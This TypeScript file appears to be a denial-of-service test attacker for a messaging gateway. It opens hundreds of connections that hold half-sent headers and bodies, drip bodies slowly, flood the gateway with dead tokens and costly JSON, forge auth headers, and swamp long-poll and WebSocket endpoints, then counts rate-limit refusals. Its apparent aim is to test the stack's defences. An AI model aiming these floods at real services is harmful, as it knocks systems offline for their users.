/**
 * One attacker, in a process of its own so that it slows down nobody but the stack:
 * `node attack.ts <kind> <gateway url> <address to come from>`. It goes on until it is ended, and then says what it got.
 */
import { randomBytes } from 'node:crypto'
import { connect, type Socket } from 'node:net'

const [kind = '', gateway = '', from = '127.0.0.2'] = process.argv.slice(2)
const { hostname, port } = new URL(gateway)
const got = { connections: 0, closed: 0, answers: 0, refusals: 0 }

interface Attack {
  connections: number
  /** Milliseconds until a connection that was closed is opened again: a gigabit a second is enough for one attacker. */
  reopenAfter?: number
  /** What a connection sends first, and again after each answer. */
  send(socket: Socket, answers: number, last: string): void
}

const head = (line: string, ...headers: string[]) => `${[line, 'Host: im.test', ...headers].join('\r\n')}\r\n\r\n`
const post = (path: string, body: string, ...headers: string[]) =>
  head(`POST ${path} HTTP/1.1`, `Content-Length: ${Buffer.byteLength(body)}`, ...headers) + body
const deadToken = () => randomBytes(16).toString('hex')
const mebibyte = 1024 * 1024
const json = 'Content-Type: application/json'

const halfBody = (path: string) =>
  head(`POST ${path} HTTP/1.1`, `Content-Length: ${mebibyte}`) + 'x'.repeat(mebibyte - 1)

/** JSON that costs most to read, with a token that is not live. */
const largeJson = () => {
  const start = `{"access_token":"${deadToken()}","n":12345678901234567890`
  return `${start}${',"a":[1,2,{}]'.repeat((mebibyte - 200) / 13)}}`
}

const bosh = 'xmlns="http://jabber.org/protocol/httpbind"'
let rids = 1_000_000

const attacks: Record<string, Attack> = {
  'half heads': {
    connections: 600,
    send: (socket) => socket.write(`GET /config HTTP/1.1\r\nHost: a\r\nX: ${'x'.repeat(200 * 1024)}`),
  },
  'half bodies': {
    connections: 600,
    reopenAfter: 5000,
    send: (socket) => socket.write(halfBody('/tigase/encrypt')),
  },
  'half bodies of a user': {
    connections: 600,
    reopenAfter: 5000,
    send: (socket) => socket.write(halfBody(`/tigase/encrypt?access_token=${process.env['MALLORY_TOKEN']}`)),
  },
  'slow bodies': {
    connections: 600,
    send(socket) {
      socket.write(head('POST /user/login HTTP/1.1', 'Content-Length: 1000'))
      const drip = setInterval(() => socket.write('x'), 1000)
      socket.once('close', () => clearInterval(drip))
    },
  },
  'calls with dead tokens': {
    connections: 64,
    send: (socket) => socket.write(head(`GET /user/get?access_token=${deadToken()} HTTP/1.1`)),
  },
  'megabytes with dead tokens': {
    connections: 32,
    send: (socket) => socket.write(post('/tigase/encrypt', largeJson(), json)),
  },
  'forged headers': {
    connections: 64,
    send: (socket) =>
      socket.write(
        head(
          'GET /user/get HTTP/1.1',
          `X-Im-Caller: ${randomBytes(60).toString('base64url')}.${randomBytes(32).toString('base64url')}`,
          `X-Forwarded-For: 10.${[...randomBytes(3)].join('.')}`,
          `X-Service-Key: ${randomBytes(24).toString('hex')}`,
          'X-Im-Timeout-Ms: 999999999',
          'Cookie: console_token=x; mp_token=x',
        ),
      ),
  },
  'long values': {
    connections: 16,
    send(socket, answers) {
      const long = [
        '1'.repeat(60_000),
        `${'9'.repeat(30_000)}.`,
        `-${'0'.repeat(60_000)}`,
        '1,'.repeat(30_000),
        '%'.repeat(60_000),
      ]
      const names = ['telephone', 'loginType', 'latitude', 'longitude', 'areaCode']
      const value = long[answers % long.length] ?? ''
      socket.write(post('/user/login', names.map((name) => `${name}=${value.slice(0, 12_000)}`).join('&')))
    },
  },
  'long polls': {
    connections: 1000,
    send(socket, answers, last) {
      const rid = ++rids
      const sid = /sid=['"]([^'"]+)/.exec(last)?.[1]
      if (answers > 1) return
      const body = sid
        ? `<body ${bosh} rid="${Number(ridOf.get(socket)) + 1}" sid="${sid}"/>`
        : `<body ${bosh} rid="${rid}" to="${process.env['XMPP_DOMAIN']}" wait="60" hold="1" ver="1.6" xml:lang="en"/>`
      ridOf.set(socket, rid)
      socket.write(post('/http-bind', body, 'Content-Type: text/xml'))
    },
  },
  WebSockets: {
    connections: 1000,
    send(socket, answers) {
      if (answers > 0) return
      const key = randomBytes(16).toString('base64')
      const upgrade = ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13']
      socket.write(
        head('GET /xmpp-websocket HTTP/1.1', ...upgrade, `Sec-WebSocket-Key: ${key}`, 'Sec-WebSocket-Protocol: xmpp'),
      )
    },
  },
}

const ridOf = new WeakMap<Socket, number>()
const attack = attacks[kind]
if (!attack) throw new Error(`no attack is called ${kind}: ${Object.keys(attacks).join(', ')}`)

function open(): void {
  const socket = connect({ host: hostname, port: Number(port), localAddress: from })
  let answers = 0
  socket.once('connect', () => {
    got.connections++
    attack?.send(socket, answers, '')
  })
  socket.on('data', (chunk) => {
    const text = chunk.toString('latin1')
    if (!text.startsWith('HTTP/1.1 ')) return
    got.answers++
    if (/^HTTP\/1\.1 429|"resultCode":1020103/.test(text)) got.refusals++
    attack?.send(socket, ++answers, text)
  })
  socket.on('error', () => {})
  socket.once('close', () => {
    got.closed++
    setTimeout(open, attack?.reopenAfter ?? 200)
  })
}

for (let n = 0; n < attack.connections; n++) open()
process.once('SIGTERM', () => {
  console.log(JSON.stringify(got))
  process.exit(0)
})
